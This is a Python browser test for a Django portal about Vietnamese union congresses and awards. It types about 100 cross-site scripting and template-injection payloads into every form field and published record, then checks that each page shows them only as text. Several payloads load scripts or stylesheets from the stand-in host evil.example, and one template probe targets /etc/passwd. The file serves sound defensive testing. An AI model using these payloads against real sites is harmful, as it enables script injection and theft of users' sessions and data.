"""Texts that want to be scripts, typed and published, are shown as texts on every page.

They are typed into every text box of what a body keeps, and stand in every text of the documents
from which the public pages are made. A dialog, a complaint of the browser about a script, an
element or an address that one of them made, or a request elsewhere counts as a breach.
"""

import itertools
import json
from collections.abc import Iterator
from typing import Any

from django.db import models, transaction
from django.urls import reverse

from awards.models import AwardDecision
from congress_portal.desk_entry import Refused
from congress_portal.foundation.audit import acting
from congress_portal.foundation.publication import canonical_text, read_document
from congress_portal.foundation.vietnamese import normalize
from congress_portal.publishing import transitions
from congress_portal.views import examples
from congresses.models import Congress
from organizations.models import Organization, OrganizationName, Person, Source
from tests import desk_forms
from tests.awards.documents import award, decision
from tests.browser.test_desk_pages import sits_down
from tests.congresses import documents as congresses
from tests.desk_forms import NoBoxError
from tests.organizations.documents import profile, publish
from tests.portal.desk_world import Desk, furnished

ELSEWHERE = "evil.example"
VECTORS = (
    # Elements, whole and broken.
    "<script planted>alert(1)</script>",
    "<ScRiPt planted>alert(1)</sCrIpT>",
    f"<script planted src=//{ELSEWHERE}/x.js></script>",
    "<img planted src=x onerror=alert(1)>",
    "<img planted src=x onerror=alert(1)//",
    "<planted onmouseover=alert(1) style=position:fixed;inset:0>",
    "<svg planted onload=alert(1)>",
    "<svg><script planted>alert(1)</script></svg>",
    "<svg><animate planted onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a planted xlink:href=javascript:alert(1)><text y=20>bấm</text></a></svg>",
    "<svg><style><img planted src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img planted src=x onerror=alert(1)>",
    "<details planted open ontoggle=alert(1)>",
    "<video planted><source onerror=alert(1)></video>",
    "<input planted autofocus onfocus=alert(1)>",
    "<body planted onload=alert(1)>",
    "<iframe planted srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe planted src=javascript:alert(1)></iframe>",
    "<object planted data=javascript:alert(1)></object>",
    f"<embed planted src=//{ELSEWHERE}/x.swf>",
    f"<base planted href=//{ELSEWHERE}/>",
    "<meta planted http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<link planted rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style planted>@import'//{ELSEWHERE}/x.css';</style>",
    "<form planted action=javascript:alert(1)><button>Gửi</button></form>",
    "<a planted href=javascript:alert(1)>bấm</a>",
    "<a planted href='java&#9;script:alert(1)'>bấm</a>",
    "<template planted shadowrootmode=open><script>alert(1)</script></template>",
    "<svg/onload=alert(1)/planted>",
    "<svg><set planted attributeName=href to=javascript:alert(1)></svg>",
    "<select planted autofocus onfocus=alert(1)></select>",
    "<audio planted src=x onerror=&#97;lert(1)></audio>",
    "<img planted src=x onerror\n=\nalert`1`>",
    "<script planted>\\u0061lert(1)</script>",
    "<button planted formaction=javascript:alert(1)>Gửi</button>",
    f"<input planted type=image src=//{ELSEWHERE}/x.png formaction=//{ELSEWHERE}/>",
    "<meta planted http-equiv=Content-Security-Policy content='script-src * data:'>",
    "<object planted data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    f"<p planted style='background:url(//{ELSEWHERE}/x);width:expression(alert(1))'>",
    f"<style planted>@\\69mport url(//{ELSEWHERE}/x.css);</style>",
    # Read otherwise the second time, or as MathML, SVG or a frame.
    "<form><math><mtext></form><form><mglyph><style></math><img planted src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script planted>alert(1)</script>'>",
    "<svg></p><style><a id='</style><img planted src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe planted srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<svg><use planted href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<noscript><style></noscript><img planted src=x onerror=alert(1)>",
    "<template><style></template><img planted src=x onerror=alert(1)></style>",
    "<title><a id='</title><img planted src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img planted src=x onerror=alert(1)>'>",
    "<!--><img planted src=x onerror=alert(1)>-->",
    "<!-- --!><img planted src=x onerror=alert(1)> -->",
    "<![CDATA[><img planted src=x onerror=alert(1)>]]>",
    "<!--<script>",
    # Out of what they stand in.
    '"><img planted src=x onerror=alert(1)>',
    "'><img planted src=x onerror=alert(1)>",
    '" planted autofocus onfocus=alert(1) x="',
    "' planted autofocus onfocus=alert(1) x='",
    "` planted onmouseover=alert(1)",
    "</textarea><script planted>alert(1)</script>",
    "</title><script planted>alert(1)</script>",
    "</style><script planted>alert(1)</script>",
    "</script><script planted>alert(1)</script>",
    "--><script planted>alert(1)</script>",
    "]]><script planted>alert(1)</script>",
    "</option></select><img planted src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img planted src=x onerror=alert(1)>'>",
    '"};alert(1);//',
    '\\";alert(1);//',
    "'-alert(1)-'",
    "x planted tabindex=1 autofocus onfocus=alert(1) ",
    "&quot; planted autofocus onfocus=alert(1) x=&quot;",
    "\\u0022><script planted>alert(1)</script>",
    '</script><script planted type="application/ld+json">{"@id":"javascript:alert(1)"}</script>',
    "\u2028alert(1)//",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script planted>alert(1)</script>",
    "vbscript:alert(1)",
    f"//{ELSEWHERE}/x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a planted href='java&Tab;script&colon;alert(1)'>bấm</a>",
    "<a planted href='java\nscript:alert(1)'>bấm</a>",
    "<a planted href='&#1;javascript:alert(1)'>bấm</a>",
    # Read twice, by a template, or as another writing.
    "&lt;script planted&gt;alert(1)&lt;/script&gt;",
    "&#60;img planted src=x onerror=alert(1)&#62;",
    "%3Cscript planted%3Ealert(1)%3C/script%3E",
    "\\u003cimg planted src=x onerror=alert(1)\\u003e",
    "{{ 7191*7193 }}{% debug %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7191*7193}]] @(7191*7193) #{7191*7193} {{#with 7191}}{{lookup . 'constructor'}}{{/with}}",
    "{%25 include '/etc/passwd' %25}{% load static %}{# planted #}",
    "＜script planted＞alert(1)＜/script＞",
    "%C0%BCscript planted%C0%BEalert(1)%C0%BC/script%C0%BE",
    "+ADw-script planted+AD4-alert(1)+ADw-/script+AD4-",
    # Longer than what is cut off, so that a cut may fall within.
    f"{'Đ' * 400}<img planted src=x onerror=alert(1)>",
    # Letters that are not seen, or turn the line round.
    "\u202e<img planted src=x onerror=alert(1)>\u202c",
    "\u200b<scr\u200bipt planted>alert(1)</script>",
    "\u2066<svg planted onload=alert(1)>\u2069",
    "\ufeff<img\u2028planted src=x onerror=alert(1)>",
    "<img\u00a0planted src=x onerror=alert(1)>",
    "<a planted href='javascript:\u202ealert(1)\u202c'>bấm</a>",
)
NEVER = str(7191 * 7193)
LONGEST = 1_500
PLACES = ("to-chuc", "khen-thuong/quyet-dinh", "dai-hoi")
SEEN = """() => ({
  planted: document.querySelectorAll("planted, [planted], base").length,
  addresses: [...document.querySelectorAll("[href], [src], [action], [formaction], [data]")]
    .flatMap(each => ["href", "src", "action", "formaction", "data"]
      .map(name => each.getAttribute(name) || ""))
    .filter(text => /^[\\s\\x00-\\x20]*(javascript|vbscript|data:text|\\/\\/)/i.test(text)),
  words: [document.documentElement.textContent,
    ...[...document.querySelectorAll("input, textarea, option")].map(each => each.value),
    ...[...document.querySelectorAll("[title], [alt], [aria-label], [content]")].flatMap(each =>
      ["title", "alt", "aria-label", "content"].map(name => each.getAttribute(name) || "")),
  ].join("\\n"),
})"""


def as_read(text: str) -> str:
    """A text as the portal keeps it, on one line."""
    return " ".join(normalize(text).split())


class Watch:
    """A window, and all that must not happen in it."""

    def __init__(self, context: Any):
        self.breaches: list[str] = []
        self.page = context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.breaches.append(f"error {error}"))
        self.page.on("console", self._console)
        self.page.on("request", self._request)

    def _dialog(self, dialog: Any) -> None:
        self.breaches.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _console(self, message: Any) -> None:
        if message.type == "error" and "status of" not in message.text:
            self.breaches.append(message.text[:300])

    def _request(self, request: Any) -> None:
        if ELSEWHERE in request.url:
            self.breaches.append(f"request to {request.url}")

    def reads(self) -> str:
        """The words of the page that is open; what is not as it ought to be is written down."""
        seen = self.page.evaluate(SEEN)
        if seen["planted"] or seen["addresses"]:
            self.breaches.append(f"{seen['planted']} planted elements, {seen['addresses']}")
        if NEVER in seen["words"]:
            self.breaches.append("a template was worked out")
        return seen["words"]


def spoiled(document: Any, vectors: Iterator[str]) -> Any:
    """The document with one more vector at the end of every text of several words."""

    def walk(value: Any) -> Any:
        match value:
            case dict():
                return {key: walk(each) for key, each in value.items()}
            case list():
                return [walk(each) for each in value]
            case str() if " " in value:
                return f"{value} {next(vectors)}"
        return value

    text = json.dumps(walk(json.loads(canonical_text(document))), ensure_ascii=False)
    return read_document(type(document), text)


def publish_spoiled(vectors: Iterator[str]) -> None:
    """Every kind of public record, and one that was corrected and withdrawn."""
    publish(spoiled(profile("Công đoàn Viên chức tỉnh Lạng Sơn", code="cdvcnsts"), vectors))
    congresses.publish(spoiled(congresses.full_report(), vectors))
    congresses.publish(spoiled(congresses.full_report(), vectors), note=" ".join(VECTORS))
    publish(spoiled(decision(award(), award("Công đoàn Sở Y tế và các đơn vị")), vectors))
    congresses.publish(spoiled(congresses.cluster_year(), vectors))


def boxes_of(row: models.Model) -> Iterator[models.Field]:
    for column in row._meta.concrete_fields:
        is_text = isinstance(column, models.CharField | models.TextField)
        if is_text and not column.choices and column.editable and not column.primary_key:
            yield column


def type_everywhere(desk: Desk, vectors: Iterator[str]) -> tuple[int, int]:
    """Every text box of every row that “own” keeps, one form at a time; taken and refused."""
    body, taken, refused = desk.bodies["own"], 0, 0
    names = OrganizationName.objects.filter(organization=body)
    for row in (*names, *(row for (where, _m), row in desk.rows.items() if where == "own")):
        for column in boxes_of(row):
            most = min(column.max_length or LONGEST, LONGEST)
            words = "Ghi"
            while len(f"{words} {(vector := next(vectors))}") <= most:
                words = f"{words} {vector}"
            if words == "Ghi":
                continue
            try:
                with transaction.atomic():
                    row.refresh_from_db()
                    desk_forms.save(row, {column.name: words}, desk.users["clerk"], body)
                taken += 1
            except (Refused, NoBoxError):
                refused += 1
    return taken, refused


def approve(desk: Desk) -> list[models.Model]:
    records = [desk.row("own", model) for model in (Organization, AwardDecision, Congress)]
    with acting(desk.users["clerk"]):
        Congress.objects.filter(pk=records[-1].pk).update(source=desk.row("own", Source))
    for record in records:
        record.refresh_from_db()
        transitions.submit(record, desk.users["clerk"], accept="nguồn nêu như vậy")
        transitions.approve(record, desk.users["approver"])
    return records


def desk_addresses(desk: Desk) -> Iterator[tuple[str, str]]:
    for model in (Organization, Person, AwardDecision, Congress):
        row = desk.row("own", model)
        place = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield "clerk", reverse(f"{place}_changelist")
        yield "clerk", reverse(f"{place}_change", args=[row.pk])
        yield "clerk", reverse(f"{place}_history", args=[row.pk])
    for kind, model in (("dai-hoi", Congress), ("khen-thuong", AwardDecision)):
        record = {"kind": kind, "code": desk.row("own", model).code}
        yield "approver", reverse("admin:record", kwargs=record)
        yield "approver", reverse("admin:record_preview", kwargs=record)
    yield "approver", reverse("admin:index")


def test_every_detector_answers_to_a_page_that_escapes_nothing(chromium):
    context = chromium.new_context()
    watch, caught = Watch(context), []
    for vector in VECTORS:
        watch.page.set_content(f'<p title="{vector}">{vector}</p>', wait_until="commit")
        watch.reads()
        caught += [vector] if watch.breaches else []
        watch.breaches = []
    context.close()
    print(f"{len(caught)} of {len(VECTORS)} texts are caught on a page that escapes nothing")
    assert len(set(VECTORS)) >= 80
    assert len(caught) >= 60


def test_what_wants_to_be_a_script_is_shown_as_text_on_every_page(live_portal, chromium):
    vectors = itertools.cycle(VECTORS)
    publish_spoiled(vectors)
    desk = furnished()
    taken, refused = type_everywhere(desk, vectors)
    before = set(desk_addresses(desk))
    shown: dict[str, set[str]] = {}
    breaches: dict[str, list[str]] = {}

    def look(watch: Watch, address: str) -> None:
        answer = watch.page.goto(f"{live_portal}{address}")
        assert answer.status == 200, address
        words = as_read(watch.reads())
        shown[address] = {each for each in VECTORS if as_read(each) in words}
        if watch.breaches:
            breaches[address] = watch.breaches
            watch.breaches = []

    windows = {
        who: Watch(sits_down(chromium, live_portal, desk.users[who]))
        for who in ("clerk", "approver")
    }
    for who, address in sorted(before):
        look(windows[who], address)
    published = []
    for place, record in zip(PLACES, approve(desk), strict=True):
        published += [f"/{place}/{record.code}{end}" for end in ("/", ".json", "/v/1/")]
    published += [each.example for each in examples() if each.example]
    reader = Watch(chromium.new_context())
    for address in dict.fromkeys(published):
        if address.partition("?")[0].endswith(("/", ".json")):
            look(reader, address)
    pairs = sum(map(len, shown.values()))
    print(
        f"{len(VECTORS)} texts; {taken} boxes took them, {refused} refused; {len(shown)} pages,"
        f" {pairs} pages × texts seen, {len(breaches)} breaches"
    )
    assert not breaches, "\n".join(f"{where} {what}" for where, what in breaches.items())
    assert set().union(*shown.values()) >= set(VECTORS)
